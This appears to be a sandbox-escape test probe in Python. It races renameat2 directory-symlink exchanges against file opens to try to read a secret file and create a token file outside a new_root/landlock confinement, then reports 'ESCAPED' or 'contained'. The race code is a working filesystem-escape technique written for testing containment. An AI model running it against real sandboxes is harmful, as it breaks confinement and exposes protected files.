# what: a thread swaps a directory for a link to / while files are created and opened below it
# layers: new_root, landlock
import ctypes
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
X86 = platform.machine() == "x86_64"


def call(x86, arm, *arguments):
    ctypes.set_errno(0)
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    return libc.syscall(ctypes.c_long(x86 if X86 else arm), *words)

import os
import tempfile
import threading
import time

base = tempfile.gettempdir()
real, link = base + "/dir", base + "/link"
os.mkdir(real)
os.symlink(os.path.dirname(SECRET_FILE), link)
stop = time.monotonic() + 0.6


def swap():
    old, new = ctypes.c_char_p(real.encode()), ctypes.c_char_p(link.encode())
    while time.monotonic() < stop:
        call(316, 276, -100, old, -100, new, 2)


swapper = threading.Thread(target=swap)
swapper.start()
escaped = set()
while time.monotonic() < stop:
    try:
        escaped.add(open(real + "/" + os.path.basename(SECRET_FILE), "rb").read(80))
    except OSError:
        pass
    try:
        os.close(os.open(real + "/" + TOKEN, os.O_CREAT | os.O_WRONLY | os.O_EXCL))
    except OSError:
        pass
swapper.join()
for path in (os.path.dirname(SECRET_FILE) + "/" + TOKEN,):
    try:
        os.close(os.open(path, os.O_WRONLY))
        escaped.add(path)
        os.unlink(path)
    except OSError:
        pass
if escaped:
    print("ESCAPED", escaped)
print("contained")
